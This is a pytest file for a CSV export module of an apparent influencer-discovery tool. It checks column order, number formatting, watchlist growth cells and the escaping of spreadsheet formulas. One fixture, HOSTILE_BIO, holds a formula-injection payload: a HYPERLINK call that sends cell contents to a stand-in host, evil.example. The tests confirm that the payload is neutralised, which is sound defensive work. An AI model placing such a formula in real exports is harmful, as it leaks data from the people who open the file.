"""CSV exports: stable columns, formula escaping, and files a spreadsheet reads back."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from core.csv_export import (
    SEARCH_COLUMNS,
    WATCHLIST_COLUMNS,
    escape,
    search_rows,
    to_csv,
    watchlist_row,
)
from core.models import (
    AuditSummary,
    Candidate,
    Cost,
    Growth,
    Post,
    Reason,
    ReasonKind,
    SearchResult,
    Tier,
    WatchEntry,
    XUser,
)

NOW = datetime(2026, 12, 2, 9, 0, tzinfo=UTC)
HOSTILE_BIO = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _user(**kw: object) -> XUser:
    base: dict[str, object] = {
        "id": "1",
        "username": "jane_lifts",
        "name": "Jane Okafor",
        "followers": 23_400,
        "following": 300,
        "post_count": 900,
        "listed_count": 214,
        "description": "Strength coach. Collabs: jane@janelifts.co",
        "location": "Leeds, UK",
        "url": "https://linktr.ee/jane_lifts",
        "created_at": datetime(2023, 10, 22, 8, 0, tzinfo=UTC),
    }
    base.update(kw)
    return XUser(**base)  # type: ignore[arg-type]


def _candidate(user: XUser, **kw: object) -> Candidate:
    base: dict[str, object] = {
        "user": user,
        "tier": Tier.MICRO,
        "engagement_rate": 0.0361234,
        "relevance": 0.76,
        "suspicion": 0.1,
        "score": 81.8432,
        "reasons": (
            Reason(ReasonKind.STRENGTH, "engagement 3.61%"),
            Reason(ReasonKind.SUSPICION, "follows many"),
        ),
        "sampled_posts": 5,
        "niche_posts": 4,
        "sample_posts": (
            Post("p1", user.id, "old", created_at=datetime(2026, 11, 20, tzinfo=UTC)),
            Post("p2", user.id, "new", created_at=datetime(2026, 12, 1, 7, tzinfo=UTC)),
        ),
    }
    base.update(kw)
    return Candidate(**base)  # type: ignore[arg-type]


def _result(*candidates: Candidate) -> SearchResult:
    return SearchResult("fitness", "fitness lang:en", "sample", candidates, Cost(requests=3))


def _read(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_search_columns_are_the_documented_ones_in_order() -> None:
    assert [c.name for c in SEARCH_COLUMNS] == [
        "rank", "username", "name", "url", "followers", "tier", "score",
        "engagement_rate", "relevance", "suspicion", "sampled_posts", "niche_posts",
        "verified_on", "verified_on_niche", "mentioned_by", "small_sample", "reasons",
        "suspicion_reasons", "bio", "location", "website", "joined", "listed_count",
        "latest_post_at", "contacts", "niche", "query", "source", "searched_at",
    ]  # fmt: skip
    assert [c.name for c in WATCHLIST_COLUMNS] == [
        "username", "name", "url", "followers", "tier", "added_at", "bio", "location",
        "website", "joined", "listed_count", "contacts", "snapshots", "first_seen",
        "growth_7d", "growth_30d", "growth_90d", "last_audit_fake_share", "last_audit_at",
        "source",
    ]  # fmt: skip
    assert all(c.help for c in (*SEARCH_COLUMNS, *WATCHLIST_COLUMNS))


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (HOSTILE_BIO, "'" + HOSTILE_BIO),
        ("@jane", "'@jane"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2", "'-2"),
        ("-vegan", "'-vegan"),
        ("\tcmd", "'\tcmd"),
        ("\r=1+1", "'\r=1+1"),
        ("plain bio = fine", "plain bio = fine"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text: str, cell: str) -> None:
    assert escape(text) == cell


def test_numbers_stay_numbers_and_booleans_read_as_words() -> None:
    assert escape(-5) == -5
    assert escape(-0.032) == -0.032
    assert escape(None) is None
    assert escape(True) == "true"
    assert escape(False) == "false"


def test_a_search_round_trips_through_csv_reader_with_every_figure() -> None:
    hostile = _user(
        id="2",
        username="mallory",
        name="@mallory_official",
        description=HOSTILE_BIO,
        location="+44 Leeds",
        url="",
        created_at=None,
    )
    result = _result(_candidate(_user()), _candidate(hostile, small_sample=True))
    data = to_csv(SEARCH_COLUMNS, search_rows(result, NOW))
    assert data.startswith(b"rank,username,")  # no BOM
    assert b"\r\n" in data
    rows = _read(data)
    assert list(rows[0]) == [c.name for c in SEARCH_COLUMNS]
    assert len(rows) == 2
    jane, mallory = rows
    assert jane["rank"] == "1"
    assert jane["followers"] == "23400"
    assert jane["tier"] == "micro"
    assert jane["score"] == "81.84"
    assert jane["engagement_rate"] == "0.036123"
    assert jane["reasons"] == "engagement 3.61% | follows many"
    assert jane["suspicion_reasons"] == "follows many"
    assert jane["joined"] == "2023-10-22"
    assert jane["listed_count"] == "214"
    assert jane["latest_post_at"] == "2026-12-01T07:00:00+00:00"  # newest sample post
    assert jane["contacts"] == "jane@janelifts.co | https://linktr.ee/jane_lifts"
    assert jane["small_sample"] == "false"
    assert (jane["niche"], jane["source"]) == ("fitness", "sample")
    assert jane["searched_at"] == NOW.isoformat()
    assert mallory["name"] == "'@mallory_official"
    assert mallory["bio"] == "'" + HOSTILE_BIO
    assert mallory["location"] == "'+44 Leeds"
    assert mallory["joined"] == ""
    assert mallory["small_sample"] == "true"


def test_the_candidates_own_latest_post_wins_over_its_samples() -> None:
    own = datetime(2026, 12, 2, 6, tzinfo=UTC)
    rows = search_rows(_result(_candidate(_user(), latest_post_at=own)), NOW)
    assert rows[0]["latest_post_at"] == own.isoformat()
    none = search_rows(_result(_candidate(_user(), sample_posts=())), NOW)
    assert none[0]["latest_post_at"] == ""


def test_a_watchlist_row_has_growth_and_the_last_audit() -> None:
    entry = WatchEntry(
        "1",
        "jane_lifts",
        "Jane Okafor",
        23_400,
        Tier.MICRO,
        datetime(2026, 9, 1, tzinfo=UTC),
        AuditSummary(0.115, 0.078, 0.166, 400, datetime(2026, 11, 30, tzinfo=UTC)),
    )
    g = Growth(12, datetime(2026, 9, 1, tzinfo=UTC), NOW, 23_400, 0.03214, -0.0125, None)
    rows = _read(to_csv(WATCHLIST_COLUMNS, [watchlist_row(entry, _user(), g, "x-api")]))
    (row,) = rows
    assert row["growth_7d"] == "0.0321"
    assert row["growth_30d"] == "-0.0125"  # a number, not escaped
    assert row["growth_90d"] == ""
    assert row["snapshots"] == "12"
    assert row["first_seen"] == "2026-09-01T00:00:00+00:00"
    assert row["last_audit_fake_share"] == "0.115"
    assert row["last_audit_at"] == "2026-11-30T00:00:00+00:00"
    assert row["contacts"] == "jane@janelifts.co | https://linktr.ee/jane_lifts"
    assert row["source"] == "x-api"


def test_an_account_x_lost_keeps_its_row_with_empty_profile_cells() -> None:
    entry = WatchEntry("9", "gone_account", "Gone")
    row = watchlist_row(entry, None, Growth(0, None, None, None), "sample")
    (read,) = _read(to_csv(WATCHLIST_COLUMNS, [row]))
    assert read["username"] == "gone_account"
    assert (read["bio"], read["contacts"], read["followers"]) == ("", "", "")
